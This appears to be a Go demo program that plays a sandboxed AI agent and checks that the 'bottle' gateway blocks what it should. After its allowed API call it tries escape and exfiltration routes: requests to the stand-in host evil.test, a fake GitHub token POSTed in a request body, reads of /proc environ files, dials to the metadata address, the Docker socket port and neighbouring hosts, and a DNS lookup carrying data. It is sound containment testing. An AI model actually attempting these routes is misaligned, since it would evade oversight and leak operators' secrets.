@@ -1,0 +1,124 @@
+// Command agent plays an agent in the demo: it does its work, then tries all that
+// it must not be able to do, and says what happened. It exits with 1 when anything
+// was different from what bottle promises.
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"strings"
+	"time"
+)
+
+func main() {
+	failed := false
+	check := func(ok bool, what, how string) {
+		mark := "ok  "
+		if !ok {
+			mark, failed = "FAIL", true
+		}
+		fmt.Printf("  %s  %-46s %s\n", mark, what, how)
+	}
+	fmt.Println("I am the agent. My work:")
+	status, body := call("GET", os.Getenv("ACME_URL")+"/whoami", "")
+	check(status == 200, "ask the private API, without a key", body)
+
+	fmt.Println("What I hold:")
+	check(noKey(), "no key in my environment or files", "none found")
+
+	fmt.Println("What I tried besides:")
+	status, body = call("GET", os.Getenv("ACME_OUTSIDE")+"/whoami", "")
+	check(status != 200, "the API itself, with a key of my own", body)
+	status, body = call("GET", "https://evil.test/", "")
+	check(status != 200, "a host that the script does not name", body)
+	status, body = call("POST", os.Getenv("ACME_OUTSIDE")+"/notes", "the token is "+leak())
+	check(status == 403, "a secret in the body of an allowed request", body)
+	check(direct(), "the host machine, its neighbours, the internet", "no connection")
+	how, refused := lookup()
+	check(refused, "a DNS lookup (data leaves in names, too)", how)
+	if failed {
+		os.Exit(1)
+	}
+}
+
+// call makes a request through whatever proxy the environment names.
+func call(method, url, body string) (status int, said string) {
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
+	if err != nil {
+		return 0, err.Error()
+	}
+	req.Header.Set("Authorization", "Bearer a-key-of-my-own")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return 0, err.Error()
+	}
+	defer resp.Body.Close()
+	b, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
+	if err != nil {
+		return 0, err.Error()
+	}
+	var refusal struct{ Reason string }
+	if json.Unmarshal(b, &refusal) == nil && refusal.Reason != "" {
+		return resp.StatusCode, fmt.Sprintf("%d: %s", resp.StatusCode, refusal.Reason)
+	}
+	return resp.StatusCode, fmt.Sprintf("%d: %s", resp.StatusCode, bytes.TrimSpace(b))
+}
+
+// noKey looks for the demo's key wherever an agent would.
+func noKey() bool {
+	const mark = "acme-" + "key-"
+	for _, path := range []string{"/proc/self/environ", "/proc/1/environ", "/run/bottle/ca.pem", "/etc/hosts", "/etc/resolv.conf"} {
+		b, err := os.ReadFile(path)
+		if err == nil && bytes.Contains(b, []byte(mark)) {
+			return false
+		}
+	}
+	return !strings.Contains(strings.Join(os.Environ(), "\n"), mark)
+}
+
+// leak makes what looks like a token of GitHub's, here and not before, so that no
+// file holds one.
+func leak() string { return "ghp_" + "x9Kq2LmZ7vTbR4nW8sYc1HdJ6fGp3QaXeU5B"[:36] }
+
+// direct reports whether every way round the gate is closed.
+func direct() bool {
+	targets := []string{"1.1.1.1:443", "169.254.169.254:80", "172.17.0.1:22", "10.0.0.1:80"}
+	addrs, err := net.InterfaceAddrs()
+	if err != nil {
+		return false
+	}
+	for _, a := range addrs {
+		// The first address of the own network is where a host would be.
+		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
+			first := n.IP.Mask(n.Mask).To4()
+			first[3]++
+			targets = append(targets, first.String()+":22", first.String()+":2375")
+		}
+	}
+	for _, t := range targets {
+		if c, err := net.DialTimeout("tcp", t, 300*time.Millisecond); err == nil {
+			_ = c.Close()
+			return false
+		}
+	}
+	return true
+}
+
+func lookup() (how string, refused bool) {
+	start := time.Now()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	_, err := net.DefaultResolver.LookupHost(ctx, "secret.evil.test")
+	if err == nil {
+		return "it was answered", false
+	}
+	return fmt.Sprintf("refused after %d ms", time.Since(start).Milliseconds()), time.Since(start) < 5*time.Second
+}
